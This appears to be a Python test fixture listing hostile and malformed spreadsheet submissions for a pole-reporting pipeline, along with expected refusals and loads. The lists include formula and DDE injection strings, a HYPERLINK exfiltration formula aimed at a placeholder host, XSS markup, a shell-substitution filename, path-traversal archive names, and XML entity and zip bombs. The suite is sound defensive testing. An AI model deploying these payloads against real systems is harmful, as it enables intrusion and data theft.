"""The corpus of hostile and messy inputs (docs/guarantees.md), each with its expected
outcome. Built by the test suite: the real filled template changed in one place, or
hand-written parts where openpyxl cannot make the file.

Outcomes: `refused` (a submission refused, with these error issues), `loaded` (accepted, maybe
with warnings), `duplicate` (already received: nothing new), `unknown-sender` (archived, never
loaded), `ignored` (left where it is, never read), `quarantined` (a symbolic link moved aside).
Phase 1 holds every input that must change nothing; phase 2 the inputs that must load.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from helpers.workbooks import filled, workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from ptce_pipeline.catalogue import layout as L

from .builders import (
    LAUGHS,
    SHEET_FILES,
    XXE,
    add_rows,
    encrypt,
    many_members,
    patch,
    replace_once,
    set_cell,
    shared_strings_bomb,
    unsafe_names,
    with_prolog,
)

DATA = Path(__file__).parents[1] / "data"
IND = SHEET_FILES["Indicateurs"]
MIB = 1 << 20
CORPUS_ENV = {  # small bounds so that every bomb costs little in CI
    "PTCE_MAX_MEMBER_BYTES": str(8 * MIB),
    "PTCE_MAX_TOTAL_BYTES": str(32 * MIB),
    "PTCE_WORKER_MEMORY_MB": "1024",
}
INJECTIONS = (
    '=HYPERLINK("http://exemple.invalid/?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
MARKUP = ("<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '"><svg onload=alert(1)>')


@dataclass
class Case:
    id: str
    data: bytes | Path | None
    expect: str
    folder: str = "PTCE-001"
    name: str | None = None
    errors: list[tuple[str, str | None, str | None]] = field(default_factory=list)
    exact: bool = False  # the error issues are exactly `errors`
    warnings: list[str] = field(default_factory=list)  # warning codes that must be there
    phase: int = 1
    check: Callable | None = None  # extra check on a loaded submission: check(query, sid)
    special: str | None = None  # symlink

    @property
    def filename(self) -> str:
        return self.name or f"{self.id}.xlsx"

    def payload(self) -> bytes:
        if isinstance(self.data, Path):
            return self.data.read_bytes()
        return self.data or b""


def _filled(ref, pole="PTCE-001", period=2024, change=None, edit=None) -> bytes:
    data = copy.deepcopy(filled(ref, pole, period))
    if change is not None:
        change(data)
    return workbook(ref, data, edit=edit)


def _ind(code, value):
    def change(data):
        data.indicators[code] = value

    return change


def _text_cell(ws, ref, text):
    ws[ref] = text
    ws[ref].data_type = "s"  # text as typed (a pole's "=…" pasted as text), never a formula


def _injections(wb, *, invalid=False):
    ws = wb[L.SHEET_INDICATORS]
    for row, text in zip((7, 8, 9, 11, 12, 13), INJECTIONS, strict=True):
        _text_cell(ws, f"G{row}", text)  # « Source ou commentaire » of IND01 to IND06
    ws = wb[L.SHEET_CRITERIA]
    _text_cell(ws, "E7", INJECTIONS[0])
    if invalid:
        _text_cell(wb[L.SHEET_INDICATORS], "F7", MARKUP[0])  # IND01: not a number


def _markup_names(wb):
    ws = wb[L.SHEET_MEMBERS]
    for k, text in enumerate(MARKUP):
        _text_cell(ws, f"B{5 + k}", f"{text} Association {k}")
    _text_cell(wb[L.SHEET_INDICATORS], "F7", MARKUP[1])  # IND01: refused, shown in the receipt


def _ext_link(template: bytes) -> bytes:
    link = (
        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook><sheetNames><sheetName val="Budget"/>'
        b"</sheetNames></externalBook></externalLink>"
    )

    def sheet(xml):
        return set_cell(xml, "F12", b"<f>[1]Budget!B3</f><v>9119</v>")  # IND05, cached value

    return patch(template, {IND: sheet}, add={"xl/externalLinks/externalLink1.xml": link})


def _error_cells(xml):
    for ref, text in (("F7", b"#REF!"), ("F9", b"#DIV/0!"), ("F12", b"#N/A")):
        xml = set_cell(xml, ref, b"<f>1/0</f><v>" + text + b"</v>", b' t="e"')
    return xml


def _control_chars(data):
    data.identity["structure_nom"] = "SCIC\u200b Énergies\u202e CitoyennesCTRL 1"


def _bell(xml: bytes) -> bytes:
    """A control character as OOXML escapes it (openpyxl refuses to write the raw one)."""
    return replace_once(b"CitoyennesCTRL", b"Citoyennes_x0007_")(xml)


def _long_text(wb):
    _text_cell(wb[L.SHEET_INDICATORS], "G7", "x" * 32767)


def _merge(wb):
    wb[L.SHEET_INDICATORS].merge_cells("F7:F9")


def _rename_criteria(wb):
    wb[L.SHEET_CRITERIA].title = "Feuil1"


def _hide(state):
    def edit(wb):
        wb[L.SHEET_CRITERIA].sheet_state = state

    return edit


def _headers(wb):
    wb[L.SHEET_INDICATORS]["F4"] = "  VALEUR  "
    wb[L.SHEET_MEMBERS]["C4"] = "siret"
    wb[L.SHEET_IDENTITY]["C4"] = "valeur "


def _mac(wb):
    wb.epoch = CALENDAR_MAC_1904


def _mac_date(data):
    data.identity["date_remplissage"] = dt.datetime(2024, 12, 20)


def _xlsm(template: bytes) -> bytes:
    return patch(template, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA"})


def _dimension_a1(template: bytes) -> bytes:
    return patch(
        template,
        {
            SHEET_FILES["Membres"]: replace_once(
                b'<dimension ref="A1:H304" />', b'<dimension ref="A1" />'
            )
        },
    )


def _member_beyond_rows(template: bytes) -> bytes:
    row = b'<row r="20001"><c r="B20001" t="inlineStr"><is><t>Membre perdu</t></is></c></row>'
    return patch(template, {SHEET_FILES["Membres"]: add_rows(row)})


def _truncated(template: bytes) -> bytes:
    return template[: int(len(template) * 0.6)]


def _xlsb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return out.getvalue()


def _check_values(expected: dict[str, float]):
    def check(query, sid):
        rows = dict(
            query("SELECT indicator_code, value FROM indicator_values WHERE submission_id = ?", sid)
        )
        for code, value in expected.items():
            assert rows[code] == value, (code, rows[code], value)

    return check


def _check_identity(field_name: str, value: str):
    def check(query, sid):
        got = query(
            "SELECT value FROM identity_values WHERE submission_id = ? AND field = ?",
            sid,
            field_name,
        )
        assert got == [(value,)], got

    return check


def _check_comments(query, sid):
    comments = {
        r[0]
        for r in query(
            "SELECT comment FROM indicator_values WHERE submission_id = ? AND comment IS NOT NULL",
            sid,
        )
    }
    for text in INJECTIONS:  # stored as typed (cleaned of tabs and line breaks), never evaluated
        assert text.strip() in comments, text


def _check_members(n: int):
    def check(query, sid):
        assert query("SELECT count(*) FROM members WHERE submission_id = ?", sid) == [(n,)]

    return check


NAME_CASES = {  # hostile file names, each on a valid workbook of its own pole
    "accents-espaces": "suivi été 2024 (version définitive).xlsx",
    "point-virgule": "suivi;2024;v2.xlsx",
    "retour-ligne": "suivi\n2024.xlsx",
    "250-caracteres": "é" * 5 + "x" * 240 + ".xlsx",  # 250 characters, 255 octets
    "substitution-shell": "$(touch ptce-pwned) `id`.xlsx",
}


def build(ref, template: bytes, gib_bomb: Path, tmp: Path) -> list[Case]:
    """Every case. `template` is PTCE-001's valid 2024 workbook (already loaded in phase 0)."""
    from ptce_pipeline.config import Limits
    from ptce_pipeline.reading.sandbox import read_one

    ind = {c: cell.cell for c, cell in read_one(template, ref, Limits()).content.indicators.items()}
    cases = [
        # --- not a workbook -----------------------------------------------------------------
        Case("vide", b"", "refused", errors=[("empty-file", None, None)], exact=True),
        Case(
            "pdf-renomme",
            b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
            "refused",
            errors=[("not-a-workbook", None, None)],
            exact=True,
        ),
        Case(
            "png-renomme",
            b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
            "refused",
            errors=[("not-a-workbook", None, None)],
            exact=True,
        ),
        Case(
            "export-html",
            b"<html><body><table><tr><td>IND01</td><td>12</td></tr></table></body></html>",
            "refused",
            name="export-html.xls",
            errors=[("not-a-workbook", None, None)],
            exact=True,
        ),
        Case(
            "tronque",
            _truncated(template),
            "refused",
            errors=[("corrupt-file", None, None)],
            exact=True,
        ),
        Case(
            "chiffre",
            encrypt(template),
            "refused",
            errors=[("encrypted-file", None, None)],
            exact=True,
        ),
        Case(
            "vrai-xls",
            DATA / "legacy.xls",
            "refused",
            name="vrai.xls",
            errors=[("legacy-xls", None, None)],
            exact=True,
        ),
        Case(
            "xls-renomme",
            DATA / "legacy.xls",
            "refused",
            name="xls-renomme.xlsx",
            folder="PTCE-002",
            errors=[("legacy-xls", None, None)],
            exact=True,
        ),
        Case(
            "xlsb",
            _xlsb(),
            "refused",
            name="binaire.xlsb",
            errors=[("xlsb-format", None, None)],
            exact=True,
        ),
        Case(
            "csv-point-virgule",
            b"Code;Valeur\nIND01;12\nIND02;45,5\n",
            "refused",
            name="export.csv",
            errors=[("csv-file", None, None)],
            exact=True,
        ),
        Case(
            "csv-latin1",
            "Code;Libellé;Valeur\nIND01;Opérations;12\n".encode("latin-1"),
            "refused",
            name="export-latin1.csv",
            errors=[("csv-file", None, None)],
            exact=True,
        ),
        Case(
            "csv-bom",
            "\ufeffCode;Valeur\nIND01;12\n".encode(),
            "refused",
            name="export-bom.csv",
            errors=[("csv-file", None, None)],
            exact=True,
        ),
        # --- bombs --------------------------------------------------------------------------
        Case(
            "bombe-1-gio",
            gib_bomb,
            "refused",
            errors=[("too-large", "Indicateurs", None)],
            exact=True,
        ),
        Case(
            "cent-mille-elements",
            many_members(template, 100_000),
            "refused",
            errors=[("too-large", None, None)],
            exact=True,
        ),
        Case(
            "chemin-remontant",
            unsafe_names(template, "../../../tmp/x.xml"),
            "refused",
            errors=[("unsafe-archive", None, None)],
            exact=True,
        ),
        Case(
            "chemin-absolu",
            unsafe_names(template, "/etc/ptce-x.xml"),
            "refused",
            errors=[("unsafe-archive", None, None)],
            exact=True,
        ),
        Case(
            "rires-chaines",
            patch(
                template,
                add={
                    "xl/sharedStrings.xml": b'<?xml version="1.0"?>'
                    + LAUGHS
                    + b"<sst><si><t>&lol9;</t></si></sst>"
                },
            ),
            "refused",
            errors=[("forbidden-xml", None, None)],
            exact=True,
        ),
        Case(
            "rires-feuille",
            patch(template, {IND: with_prolog(LAUGHS)}),
            "refused",
            errors=[("forbidden-xml", "Indicateurs", None)],
            exact=True,
        ),
        Case(
            "entite-externe",
            patch(
                template,
                {
                    "xl/workbook.xml": with_prolog(
                        XXE, replace_once(b'name="Lisez-moi"', b'name="&xxe;"')
                    )
                },
            ),
            "refused",
            errors=[("forbidden-xml", None, None)],
            exact=True,
        ),
        Case(
            "chaines-geantes",
            shared_strings_bomb(template, 9 * MIB),
            "refused",
            errors=[("too-large", None, None)],
            exact=True,
        ),
        # --- lying structure ----------------------------------------------------------------
        Case(
            "cellule-xfd1048576",
            patch(
                template,
                {
                    IND: lambda b: add_rows(
                        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                    )(
                        replace_once(
                            b'<dimension ref="A1:G43" />', b'<dimension ref="A1:XFD1048576" />'
                        )(b)
                    )
                },
            ),
            "refused",
            errors=[("too-large", "Indicateurs", "XFD1048576")],
            exact=True,
        ),
        Case(
            "hors-grille",
            patch(template, {IND: add_rows(b'<row r="50"><c r="XFE50"><v>1</v></c></row>')}),
            "refused",
            errors=[("too-large", "Indicateurs", "XFE50")],
            exact=True,
        ),
        Case(
            "reference-a0",
            patch(template, {IND: add_rows(b'<row r="50"><c r="A0"><v>1</v></c></row>')}),
            "refused",
            errors=[("too-large", "Indicateurs", "A0")],
            exact=True,
        ),
        Case(
            "trop-de-lignes",
            _member_beyond_rows(template),
            "refused",
            errors=[("too-large", "Membres", "B20001")],
            exact=True,
        ),
        # --- messy content -------------------------------------------------------------------
        Case(
            "feuille-renommee",
            _filled(ref, edit=_rename_criteria),
            "refused",
            errors=[("missing-sheet", "Critères", None)],
        ),
        Case(
            "cellules-fusionnees",
            _filled(ref, edit=_merge),
            "refused",
            errors=[("merged-cells", "Indicateurs", "F7")],  # and the values it hid
        ),
        Case(
            "formule-sans-valeur",
            _filled(ref, change=_ind("IND05", "=1000+234")),
            "refused",
            errors=[("formula-without-value", "Indicateurs", ind["IND05"])],
            exact=True,
        ),
        Case(
            "erreurs-de-formule",
            patch(template, {IND: _error_cells}),
            "refused",
            errors=[
                ("formula-error", "Indicateurs", "F7"),
                ("formula-error", "Indicateurs", "F9"),
                ("formula-error", "Indicateurs", "F12"),
            ],
            exact=True,
        ),
        Case(
            "texte-32767",
            _filled(ref, edit=_long_text),
            "refused",
            errors=[("text-too-long", "Indicateurs", "G7")],
            exact=True,
        ),
        Case(
            "1e308",
            _filled(ref, change=_ind("IND17", "1e308")),
            "refused",
            errors=[("out-of-range", "Indicateurs", ind["IND17"])],
            exact=True,
        ),
        Case(
            "inf",
            _filled(ref, change=_ind("IND05", "inf")),
            "refused",
            errors=[("not-a-number", "Indicateurs", ind["IND05"])],
            exact=True,
        ),
        Case(
            "entier-geant",
            _filled(ref, change=_ind("IND05", 10**30)),
            "refused",
            errors=[("out-of-range", "Indicateurs", ind["IND05"])],
            exact=True,
        ),
        Case(
            "compte-negatif",
            _filled(ref, change=_ind("IND01", -5)),
            "refused",
            errors=[("out-of-range", "Indicateurs", ind["IND01"])],
            exact=True,
        ),
        # --- injection -----------------------------------------------------------------------
        Case(
            "injection-et-erreur",
            _filled(ref, edit=lambda wb: _injections(wb, invalid=True)),
            "refused",
            errors=[("not-a-number", "Indicateurs", "F7")],
            exact=True,
        ),
        Case(
            "balises-dans-les-noms",
            _filled(ref, edit=_markup_names),
            "refused",
            name='<img src=x onerror="alert(1)">.xlsx',
            errors=[("not-a-number", "Indicateurs", "F7")],
            exact=True,
        ),
        # --- trust ---------------------------------------------------------------------------
        Case(
            "classeur-d-un-autre-pole",
            _filled(ref, pole="PTCE-002"),
            "refused",
            errors=[("pole-folder-mismatch", "Identité", "C5")],
            exact=True,
        ),
        Case(
            "999-bonnes-une-mauvaise",
            _filled(ref, change=_ind("IND02", 140)),
            "refused",
            errors=[("out-of-range", "Indicateurs", ind["IND02"])],
            exact=True,
        ),
        Case("racine-de-la-boite", template, "unknown-sender", folder=""),
        Case("dossier-inconnu", template, "unknown-sender", folder="PTCE-999"),
        Case("verrou-office", b"\x0bCamille" + b"\x00" * 150, "ignored", name="~$suivi.xlsx"),
        Case(
            "verrou-libreoffice", b"Camille,poste,01.01.2026", "ignored", name=".~lock.suivi.xlsx#"
        ),
        Case("ds-store", b"\x00\x00\x00\x01Bud1", "ignored", name=".DS_Store"),
        Case("thumbs-db", b"\xd0\xcf\x11\xe0", "ignored", name="Thumbs.db"),
        Case("appledouble", b"\x00\x05\x16\x07", "ignored", name="._suivi.xlsx"),
        Case("lien-symbolique", None, "quarantined", name="lien.xlsx", special="symlink"),
        # === phase 2: inputs that must load ==================================================
        # (a delivery of known bytes records when it arrived on the current submission)
        Case(
            "meme-fichier-autre-nom",
            _filled(ref, pole="PTCE-002"),
            "duplicate",
            folder="PTCE-002",
            name="copie de suivi.xlsx",
            phase=2,
        ),
        Case(
            "xlsm-macros",
            _xlsm(_filled(ref, pole="PTCE-003")),
            "loaded",
            folder="PTCE-003",
            name="avec-macros.xlsm",
            warnings=["macros-ignored"],
            phase=2,
        ),
        Case(
            "ods-libreoffice",
            DATA / "libreoffice_filled.ods",
            "loaded",
            name="suivi.ods",
            phase=2,
            check=_check_values({"IND02": 43.0, "IND22": 210.0}),
        ),
        Case(
            "reenregistre-par-libreoffice",
            DATA / "libreoffice_filled.xlsx",
            "loaded",
            name="suivi-libreoffice.xlsx",
            phase=2,
            check=_check_values({"IND02": 43.0, "IND22": 210.0, "IND25": 185000.0}),
        ),
        Case(
            "dimension-a1",
            _dimension_a1(_filled(ref, pole="PTCE-004")),
            "loaded",
            folder="PTCE-004",
            phase=2,
            check=_check_members(len(filled(ref, "PTCE-004").members)),
        ),
        Case(
            "feuille-masquee",
            _filled(ref, pole="PTCE-005", edit=_hide("hidden")),
            "loaded",
            folder="PTCE-005",
            warnings=["hidden-sheet"],
            phase=2,
        ),
        Case(
            "feuille-tres-masquee",
            _filled(ref, pole="PTCE-006", edit=_hide("veryHidden")),
            "loaded",
            folder="PTCE-006",
            warnings=["hidden-sheet"],
            phase=2,
        ),
        Case(
            "en-tetes-casse-espaces",
            _filled(ref, pole="PTCE-007", edit=_headers),
            "loaded",
            folder="PTCE-007",
            phase=2,
            check=_check_members(len(filled(ref, "PTCE-007").members)),
        ),
        Case(
            "liaison-externe",
            _ext_link(_filled(ref, pole="PTCE-008")),
            "loaded",
            folder="PTCE-008",
            warnings=["external-links-ignored"],
            phase=2,
            check=_check_values({"IND05": 9119.0}),
        ),
        Case(
            "dates-1904",
            _filled(ref, pole="PTCE-009", change=_mac_date, edit=_mac),
            "loaded",
            folder="PTCE-009",
            phase=2,
            check=_check_identity("date_remplissage", "2024-12-20"),
        ),
        Case(
            "caracteres-invisibles",
            patch(
                _filled(ref, pole="PTCE-010", change=_control_chars),
                {SHEET_FILES["Identité"]: _bell},
            ),
            "loaded",
            folder="PTCE-010",
            warnings=["invisible-characters"],
            phase=2,
            check=_check_identity("structure_nom", "SCIC Énergies Citoyennes 1"),
        ),
        Case(
            "injection-texte",
            _filled(ref, pole="PTCE-011", edit=_injections),
            "loaded",
            folder="PTCE-011",
            phase=2,
            check=_check_comments,
        ),
    ]
    for k, (cid, name) in enumerate(NAME_CASES.items()):
        pole = f"PTCE-0{12 + k}"
        cases.append(
            Case(
                f"nom-{cid}",
                _filled(ref, pole=pole),
                "loaded",
                folder=pole,
                name=name,
                phase=2,
            )
        )
    return cases
